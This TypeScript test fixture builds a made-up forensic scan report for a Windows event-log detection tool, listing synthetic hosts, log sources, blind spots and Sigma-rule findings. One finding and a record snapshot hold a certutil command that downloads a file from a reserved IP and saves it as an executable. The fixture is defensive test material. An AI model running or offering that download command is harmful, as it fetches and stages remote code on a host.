import type { Level } from '#base/level.ts';
import type { FindingLine, RejectLine, RuleRef } from '#base/lines.ts';
import type { BlindSpot, SourceSummary } from '#base/summary-line.ts';
import type { RecordPointer } from '#base/provenance.ts';
import type { RecordSnapshot, RuleOutcome, ScanReportInput } from '../contract.ts';
import { recordKey } from '../record-snapshot.ts';

/** A made-up scan for tests and screenshots: reserved names and addresses, dates that hang together. */
export function madeUpScan(): ScanReportInput {
  const findings = found.map(findingOf);
  return {
    meta: {
      title: '',
      toolVersion: '0.1.0',
      command: 'holdfast scan evidence/ --rules rules --format html --out scan.html',
      ruleFolders: ['rules', 'sigma/rules'],
      generatedBy: '',
    },
    summary: {
      kind: 'summary',
      files: sources.length,
      bytes: 48_300_032,
      records: 41_220,
      rejects: 3,
      matches: findings.reduce((sum, { count }) => sum + count, 0),
      findings: findings.length,
      rules: { loaded: 11, matched: 7, notSupported: 1, notApplicable: 2, suppressed: 1 },
      sources,
      period: { from: '2026-08-01T05:58:02.114000Z', to: '2026-08-02T21:40:11.482000Z' },
      blindSpots,
    },
    findings,
    reasons: new Map(),
    rejects,
    records: new Map(
      findings.flatMap((finding) =>
        finding.evidence.map((at) => [recordKey(at.sha256, at.offset), snapshotOf(finding)]),
      ),
    ),
    rules,
    hosts: ['DC01', 'PC-0142', 'SRV-FILE1'],
  };
}

const hash = (seed: number): string => seed.toString(16).padStart(2, '0').repeat(32);

const sources: readonly SourceSummary[] = [
  ['dc01/Security.evtx', 'evtx', 20_975_616, 18_204, 0, '2026-08-01T05:58:02.114000Z', '2026-08-02T21:40:11.482000Z'],
  ['dc01/System.evtx', 'evtx', 2_166_784, 1_911, 0, '2026-08-01T06:00:00.000000Z', '2026-08-02T21:12:40.120000Z'],
  ['pc-0142/Security.evtx', 'evtx', 8_458_240, 7_020, 3, '2026-08-01T07:01:13.000000Z', '2026-08-02T18:20:00.000000Z'],
  ['pc-0142/Sysmon.evtx', 'evtx', 12_652_544, 11_420, 0, '2026-08-01T07:01:13.500000Z', '2026-08-02T18:20:01.000000Z'],
  [
    'srv-file1/Security.evtx',
    'evtx',
    4_046_848,
    2_665,
    0,
    '2026-08-02T09:14:55.000000Z',
    '2026-08-02T21:38:00.000000Z',
  ],
  ['srv-file1/notes.bin', 'unknown', 4_096, 0, 0, null, null],
].map(([file, format, bytes, records, rejectCount, from, to], index) => ({
  ...({ file, format, bytes, records, from, to } as Pick<
    SourceSummary,
    'file' | 'format' | 'bytes' | 'records' | 'from' | 'to'
  >),
  sha256: hash(index + 0xa1),
  rejects: Number(rejectCount),
}));

const blindSpots: readonly BlindSpot[] = [
  {
    what: 'record-hole',
    file: 'pc-0142/Security.evtx',
    host: 'PC-0142',
    channel: 'Security',
    fromRecord: '99301',
    toRecord: '99318',
    from: '2026-08-01T11:02:10.000000Z',
    to: '2026-08-01T11:31:44.000000Z',
  },
  {
    what: 'log-cleared',
    file: 'srv-file1/Security.evtx',
    host: 'SRV-FILE1',
    channel: 'Security',
    fromRecord: '1',
    toRecord: '1',
    from: null,
    to: '2026-08-02T09:14:55.000000Z',
  },
];

const rejects: readonly RejectLine[] = [0x1a2000, 0x1a2600, 0x4f0000].map((offset) => ({
  kind: 'reject',
  file: 'pc-0142/Security.evtx',
  sha256: hash(0xa3),
  offset,
  needed: 4112,
  had: 512,
  why: 'The record says it is longer than what is left of its chunk.',
}));

type Found = readonly [
  Level,
  string,
  string,
  string,
  number,
  string,
  string,
  readonly string[],
  readonly string[],
  readonly string[],
];

const found: readonly Found[] = [
  [
    'high',
    'NTLM logons from one account to 11 hosts',
    'SRV-FILE1',
    'svc-backup',
    11,
    '2026-08-02T14:02:11',
    '2026-08-02T14:09:03',
    ['T1550.002'],
    ['D7.2'],
    ['APT27', 'GALLIUM'],
  ],
  [
    'high',
    'Security log cleared',
    'SRV-FILE1',
    'adm-tanaka',
    1,
    '2026-08-02T09:14:55',
    '2026-08-02T09:14:55',
    ['T1070.001'],
    ['D1.4'],
    [],
  ],
  [
    'high',
    'Download with certutil from http://192.0.2.77/a.txt',
    'PC-0142',
    'PC-0142\\sato',
    2,
    '2026-08-01T10:58:40',
    '2026-08-01T10:59:02',
    ['T1105'],
    ['D2.8'],
    ['Mustang Panda'],
  ],
  [
    'medium',
    'Service tickets with RC4 in a burst',
    'DC01',
    'svc-print',
    46,
    '2026-08-02T02:10:00',
    '2026-08-02T02:11:30',
    ['T1558.003'],
    ['D7.1', 'P10.3'],
    [],
  ],
  [
    'medium',
    'Run key points to a removable drive',
    'PC-0142',
    'PC-0142\\sato',
    3,
    '2026-08-01T11:01:00',
    '2026-08-01T11:01:31',
    ['T1547.001'],
    [],
    ['Mustang Panda'],
  ],
  [
    'low',
    'First use of nltest on this host',
    'PC-0142',
    'PC-0142\\sato',
    1,
    '2026-08-01T11:40:07',
    '2026-08-01T11:40:07',
    ['T1482'],
    [],
    [],
  ],
  [
    'informational',
    'PowerShell script block recorded',
    'PC-0142',
    '',
    1254,
    '2026-08-01T07:02:00',
    '2026-08-02T18:19:44',
    ['T1059.001'],
    [],
    [],
  ],
];

function findingOf(
  [level, title, host, user, count, first, last, techniques, recommendations, actors]: Found,
  index: number,
): FindingLine {
  const evidence = Array.from({ length: Math.min(count, 24) }, (_, record) => pointerOf(index, record));
  return {
    kind: 'finding',
    id: `F-${(0x3a7c01d2e0 + index * 0x11f3).toString(16).padStart(12, '0')}`,
    question: ruleOf(index, title, level).id,
    title,
    level,
    first: `${first}.482000Z`,
    last: `${last}.482000Z`,
    count,
    subjects: { host, user },
    techniques,
    actors,
    named: [],
    recommendations,
    reason: `${count} records on ${host} fit the rule "${title}".`,
    rule: ruleOf(index, title, level),
    evidence,
  };
}

function ruleOf(index: number, title: string, level: Level): RuleRef {
  return {
    id: `00000000-0000-4000-8000-00000000000${index}`,
    title,
    level,
    author: 'A. Author, B. Writer',
    path: `sigma/rules/windows/rule-${index}.yml`,
    license: 'DRL-1.1',
    link: `https://rules.example/windows/rule-${index}.yml`,
  };
}

function pointerOf(finding: number, record: number): RecordPointer {
  const source = sources[finding % 5];
  return {
    file: source?.file ?? '',
    sha256: source?.sha256 ?? '',
    record: String(99_318 + record),
    offset: 0x4a2000 + finding * 0x10000 + record * 0x600,
    length: 1_488,
    recordSha256: hash(0x31 + record),
    origin: record === 1 ? 'slack' : 'live',
  };
}

function snapshotOf({ first, subjects }: FindingLine): RecordSnapshot {
  return {
    time: first,
    host: subjects.host,
    channel: 'Security',
    provider: 'Microsoft-Windows-Security-Auditing',
    code: '4624',
    fields: {
      SubjectUserName: '-',
      TargetUserName: subjects.user,
      LogonType: '3',
      AuthenticationPackageName: 'NTLM',
      IpAddress: '10.20.4.31',
      CommandLine: 'certutil -urlcache -f http://192.0.2.77/a.txt C:\\ProgramData\\a.exe',
      Privileges: ['SeDebugPrivilege', 'SeBackupPrivilege'],
    },
    asked: ['LogonType', 'AuthenticationPackageName'],
  };
}

const rules: readonly RuleOutcome[] = [
  {
    id: 'r1',
    title: 'Kernel event of another product',
    path: 'sigma/rules/linux/a.yml',
    state: 'not-applicable',
    why: null,
  },
  {
    id: 'r2',
    title: 'Cloud sign-in from two countries',
    path: 'sigma/rules/cloud/b.yml',
    state: 'not-applicable',
    why: null,
  },
  {
    id: 'r3',
    title: 'Beacon by count',
    path: 'sigma/rules/windows/c.yml',
    state: 'not-supported',
    why: { key: 'report.rule-not-supported-means' },
  },
  {
    id: 'r4',
    title: 'Backup agent starts a shell',
    path: 'rules/windows/d.yml',
    state: 'suppressed',
    why: { key: 'report.rule-suppressed-means' },
  },
  { id: 'r5', title: 'Shadow copies deleted', path: 'rules/windows/e.yml', state: 'ran-without-match', why: null },
];
